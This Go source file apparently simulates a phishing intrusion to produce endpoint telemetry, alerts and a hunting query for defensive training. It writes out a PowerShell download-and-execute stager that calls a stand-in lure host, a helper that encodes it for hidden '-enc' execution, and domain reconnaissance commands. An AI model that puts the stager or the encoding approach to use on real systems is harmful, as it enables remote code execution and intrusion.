package simulate

import (
	"encoding/base64"
	"strings"
)

// Where the first intruder is at home: names and addresses nobody has.
const (
	lureSite   = "cdn.invoice-portal.test"
	lureIP     = "203.0.113.66"
	beaconSite = "telemetry-sync.invalid"
	beaconIP   = "203.0.113.67"
)

// phishing: a mail with a document, a macro, PowerShell that fetches a helper
// into AppData, which looks around and then reports home once a minute.
func (w *world) phishing(d *device) *attack {
	return &attack{name: "phishing", device: d, part: 450, length: 110 * minute,
		techniques: []string{"Spearphishing Attachment (T1566.001)", "Malicious File (T1204.002)", "PowerShell (T1059.001)",
			"Obfuscated Files or Information (T1027)", "Ingress Tool Transfer (T1105)", "Web Protocols (T1071.001)"},
		hunt: `ProcessCreationEvents | where InitiatingProcessFileName =~ "powershell.exe" | where ProcessCommandLine contains "appdata"`,
		play: w.playPhishing}
}

func (w *world) playPhishing(s *script) {
	d := s.d
	home := d.home(d.owner)
	lure := home + `\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\K4X1B2QZ\Invoice 20984.docm`
	var outlook, word, shell, helper *process
	helperFile := fileEvent{action: "FileCreated", originURL: "http://" + lureSite + "/u.bin", originIP: lureIP}
	s.then(second, func() {
		if outlook = d.findFor(d.console, "OUTLOOK.EXE"); outlook == nil {
			outlook = s.run(s.shell(d), "OUTLOOK.EXE", "")
		}
	})
	s.then(20*second, func() { d.fileEvent(outlook, fileEvent{action: "FileCreated", path: lure, size: 84_312}) })
	s.then(8*second, func() {
		word = s.run(outlook, "WINWORD.EXE/attachment",
			`"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "`+lure+`" /o ""`)
	})
	s.then(25*second, func() {
		shell = s.run(word, "powershell.exe/attack", "powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -enc "+encoded)
		d.event(word, event{action: "AsrOfficeChildProcessAudited", target: shell,
			fields: `{"RuleId":"d4f940ab-401b-4efc-aadc-ad5f3c50688a","IsAudit":true}`})
	})
	s.then(2*second, func() {
		d.event(shell, event{action: "AmsiScriptContent", fields: `{"ScriptContent":` + quote(stager) + `}`})
		d.event(shell, event{action: "AmsiScriptDetection", fields: `{"Description":"Trojan:Script/Stager.A"}`})
		d.event(shell, event{action: "PowerShellCommand", fields: `{"Command":"Invoke-Expression"}`})
		s.resolve(shell, lureSite, lureIP)
		s.connect(shell, "http://"+lureSite+"/a.ps1", lureIP, 80)
	})
	s.then(3*second, func() {
		s.connect(shell, "http://"+lureSite+"/u.bin", lureIP, 80)
		helperFile.img = d.image(w.lib.byKey["updhelper.exe"].prog, home)
		helperFile.path = helperFile.img.path
		d.fileEvent(shell, helperFile)
	})
	s.then(4*second, func() {
		helper = s.run(shell, "updhelper.exe", "")
		evidence := helperFile
		w.raise(alert{title: "Suspicious PowerShell command line", severity: "Medium", category: "Execution",
			techniques: []string{"PowerShell (T1059.001)", "Obfuscated Files or Information (T1027)"}, device: d, account: d.owner,
			process: shell, file: &evidence, ip: lureIP, url: "http://" + lureSite + "/a.ps1"})
		w.raise(alert{title: "Suspicious decoded content", severity: "Medium", category: "DefenseEvasion",
			techniques: []string{"Deobfuscate/Decode Files or Information (T1140)"}, device: d, account: d.owner, process: shell})
	})
	s.end(5*second, &shell)
	s.lookAround(&helper)
	for i := range 70 {
		s.then(55*second, func() {
			if i == 0 {
				s.resolve(helper, beaconSite, beaconIP)
			}
			s.connect(helper, beaconSite, beaconIP, 443)
		})
	}
	s.end(20*second, &helper)
}

// lookAround is what intruders ask first: who and where am I, who is in charge.
func (s *script) lookAround(from **process) {
	for _, x := range [...]struct{ key, cmd string }{
		{"whoami.exe", "whoami /all"}, {"ipconfig.exe", "ipconfig /all"}, {"net.exe", `net group "Domain Admins" /domain`},
		{"nltest.exe", "nltest /domain_trusts"}, {"systeminfo.exe", "systeminfo"},
	} {
		var console *process
		s.then(12*second, func() { console = s.run(*from, "cmd.exe/attack", `C:\Windows\system32\cmd.exe /c `+x.cmd) })
		s.then(200*millisecond, func() { s.run(console, x.key, x.cmd) })
		s.end(6*second, &console)
	}
}

// stager is the script, and encoded the form PowerShell takes with -enc:
// UTF-16 in base64.
const stager = "IEX (New-Object Net.WebClient).DownloadString('http://" + lureSite + "/a.ps1')"

var encoded = encode(stager)

func encode(script string) string {
	var b strings.Builder
	for i := range len(script) {
		b.WriteByte(script[i])
		b.WriteByte(0)
	}
	return base64.StdEncoding.EncodeToString([]byte(b.String()))
}
